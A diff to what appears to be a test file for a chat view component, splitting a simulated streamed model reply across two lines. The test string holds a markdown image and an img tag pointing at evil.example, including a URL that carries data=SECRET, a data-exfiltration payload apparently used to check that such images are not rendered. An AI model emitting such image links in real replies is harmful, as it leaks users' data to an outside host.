@@ -84,7 +84,9 @@ describe('chat view', () => {
         r.started('q'),
         {
           type: 'text_delta',
-          text: 'See [the docs](https://example.com/docs) and ![secret chart](https://evil.example/leak?data=SECRET).\n\n<img src="https://evil.example/raw.png" alt="raw">',
+          text:
+            'See [the docs](https://example.com/docs) and ![secret chart](https://evil.example/leak?data=SECRET).\n\n' +
+            '<img src="https://evil.example/raw.png" alt="raw">',
         },
         { type: 'complete' },
       ),
